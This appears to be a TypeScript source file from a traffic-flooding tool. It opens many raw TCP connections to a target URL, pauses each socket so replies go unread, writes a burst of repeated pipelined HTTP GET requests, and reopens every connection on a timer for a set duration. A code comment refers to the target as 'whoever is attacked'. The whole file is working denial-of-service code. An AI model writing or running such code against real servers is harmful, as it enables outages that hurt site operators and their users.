import { connect, type Socket } from 'node:net'
import type { PipelineJob } from './jobs.ts'

function flood(job: PipelineJob): Socket {
  const { hostname, port, host } = new URL(job.url)
  const socket = connect({ host: hostname, port: Number(port) })
  // whoever is attacked may close it
  socket.on('error', () => undefined)
  socket.pause()
  socket.write(`GET ${job.path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(job.requests))
  return socket
}

/** Requests in one go on each connection, whose answers nobody reads; resolves after so many seconds with all of them closed. */
export async function pipeline(job: PipelineJob, seconds: number): Promise<void> {
  const open = new Set<Socket>()
  const begin = (): void => {
    for (const socket of open) socket.destroy()
    open.clear()
    for (let number = 0; number < job.connections; number += 1) open.add(flood(job))
  }
  begin()
  const timer = job.everyMs > 0 ? setInterval(begin, job.everyMs) : undefined
  await new Promise((resolve) => {
    setTimeout(resolve, seconds * 1000)
  })
  clearInterval(timer)
  for (const socket of open) socket.destroy()
}
